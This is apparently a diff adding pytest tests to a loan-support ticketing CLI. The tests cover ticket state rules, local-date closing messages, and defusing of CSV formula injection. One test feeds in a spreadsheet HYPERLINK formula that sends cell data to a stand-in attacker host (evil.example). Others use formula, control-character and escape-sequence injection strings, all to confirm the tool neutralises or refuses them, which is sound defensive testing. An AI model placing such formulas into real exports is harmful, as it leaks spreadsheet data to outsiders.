@@ -3,12 +3,15 @@
 import csv
 import io
 import json
+import shlex
+from datetime import UTC, datetime
 
 from sqlalchemy import func, select
 
 from bot.db import make_engine
 from bot.models import OutboxMessage
 from bot.sessions import session_factory
+from bot.tickets.text import csv_bytes
 from tests.support.webhook_receiver import WebhookReceiver
 from tests.tickets.conftest import ok
 
@@ -111,7 +114,9 @@ def test_bad_input_exits_2_with_one_line_and_writes_nothing(
         "ticket open jiebei-main --subject x --alert 999": "no alert with id 999",
         'ticket open jiebei-main --subject "  "': "the subject is empty",
         f"ticket open jiebei-main --subject {'x' * 201}": "keep it to 200",
-        "ticket close T-1 --resolution again": "ticket T-1 is closed",
+        "ticket close T-1 --resolution again": "T-1 was closed already on 2026-12-01",
+        "ticket reply T-1 ok": "to record a reply, reopen it first (`ticket reopen T-1 REASON`)",
+        "ticket sent T-1": "T-1 was closed on 2026-12-01; to mark it as sent, reopen it first",
         "ticket show T-9": "no ticket T-9",
         "ticket note X-1 hello": "is not a ticket id",
         "platform contact weilidai --via email": "an email contact needs --to",
@@ -238,3 +243,87 @@ def test_a_webhook_url_with_a_password_is_refused_and_no_secret_is_ever_echoed(
         assert len(hook.deliveries) == 1
     assert f"T-1: delivered by webhook to {hook.url}?…" in out
     assert "SEKRIT" not in out + ok(loanwatch("ticket show T-1")) + ok(loanwatch("outbox list"))
+
+
+def test_sent_is_for_a_manual_ticket_not_yet_sent(loanwatch, missing_bill, clock) -> None:
+    """`ticket sent` once, on a manual ticket: a second one, or one on an email ticket, is
+    refused and leaves the follow-up count and clock alone (it would clear OVERDUE)."""
+    ok(loanwatch(f"ticket open jiebei-main --subject 账单缺失 --alert {missing_bill}"))
+    ok(loanwatch("ticket sent T-1"))
+    clock.now = datetime(2026, 12, 10, 2, 0, tzinfo=UTC)
+    status, _, err = loanwatch("ticket sent T-1")
+    assert (status, err.strip()) == (
+        2,
+        "loanwatch: error: T-1 was marked as sent already (waiting since 2026-12-01); "
+        "nothing changed",
+    )
+    ok(loanwatch("platform contact jiebei --via email --to cs@jiebei.example"))
+    ok(loanwatch("ticket open jiebei-main --subject 额度不符"))
+    before = [(t["follow_ups"], t["next_follow_up_at"]) for t in _tickets(loanwatch)]
+    status, _, err = loanwatch("ticket sent T-2")
+    assert status == 2
+    assert "T-2 goes to the platform by email: loanwatch sends it and its follow-ups itself" in err
+    assert [(t["follow_ups"], t["next_follow_up_at"]) for t in _tickets(loanwatch)] == before
+    for ticket in ("T-1", "T-2"):  # by hand once; by email, when it went
+        assert ok(loanwatch(f"ticket show {ticket}")).count(" sent ") == 1
+
+
+def test_closed_on_is_the_facility_date(loanwatch, clock) -> None:
+    """Closed at 07:40 on 7 December in Shanghai (23:40 UTC the day before): "closed on 12-07"."""
+    ok(loanwatch("facility add jiebei-main --platform jiebei --limit 200,000"))
+    ok(loanwatch("ticket open jiebei-main --subject 账单缺失"))
+    clock.now = datetime(2026, 12, 6, 23, 40, tzinfo=UTC)
+    ok(loanwatch("ticket close T-1 --resolution done"))
+    status, _, err = loanwatch("ticket close T-1 --resolution again")
+    assert (status, err.strip()) == (2, "loanwatch: error: T-1 was closed already on 2026-12-07")
+
+
+def test_export_tickets_csv_defuses_formulas_typed_into_a_ticket(loanwatch, missing_bill) -> None:
+    """A subject or case number typed as a formula is text in the CSV (a leading '), as in
+    Slack's alert CSV; the JSON keeps it as typed, and plain numbers stay numbers."""
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    ok(loanwatch(f"ticket open jiebei-main --subject '{formula}'"))
+    ok(loanwatch("ticket sent T-1"))
+    ok(loanwatch("ticket reply T-1 ok --case '@SUM(A1:A9)'"))
+    ok(loanwatch("ticket close T-1 --resolution '-1+1'"))
+    [row] = list(csv.DictReader(io.StringIO(ok(loanwatch("export tickets --format csv")))))
+    assert (row["subject"], row["case_ref"], row["resolution"]) == (
+        "'" + formula,
+        "'@SUM(A1:A9)",
+        "'-1+1",
+    )
+    assert row["follow_ups"] == "0"
+    [ticket] = _tickets(loanwatch)
+    assert ticket["subject"] == formula
+
+
+def test_the_usage_records_csv_defuses_formulas() -> None:
+    """The records file (mailed, uploaded, saved with --csv): the same defusing, signed amounts
+    kept as numbers."""
+    data = csv_bytes(["说明", "金额"], [["=1+1", "-1662.57"], ["\tcmd", "+5"], ["ok", "1"]])
+    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
+    assert rows[1:] == [["'=1+1", "-1662.57"], ["'\tcmd", "+5"], ["ok", "1"]]
+
+
+def test_a_case_reference_is_one_line_and_a_bad_csv_path_exits_2(
+    loanwatch, missing_bill, tmp_path
+) -> None:
+    """`--case` with a line break (or another control character) and `--csv` to a folder that
+    does not exist: one line, exit 2, nothing written (no ticket, no reply)."""
+    ok(loanwatch("ticket open jiebei-main --subject 账单缺失"))
+    for case in ("GD1\nINJECT", "GD1\rX", "GD\x1b[31m1"):
+        status, _, err = loanwatch(f"ticket reply T-1 ok --case {shlex.quote(case)}")
+        assert status == 2
+        assert err.strip() == (
+            "loanwatch: error: the case reference is the platform's case number, one line: no "
+            "line breaks or control characters"
+        )
+    status, _, err = loanwatch(
+        f"ticket open jiebei-main --subject x --csv {tmp_path / 'nowhere' / 'x.csv'}"
+    )
+    assert status == 2
+    assert len(err.strip().splitlines()) == 1
+    assert "cannot write the usage records to" in err
+    assert "nothing was opened" in err
+    [ticket] = _tickets(loanwatch)
+    assert (ticket["id"], ticket["state"], ticket["case_ref"]) == ("T-1", "open", None)
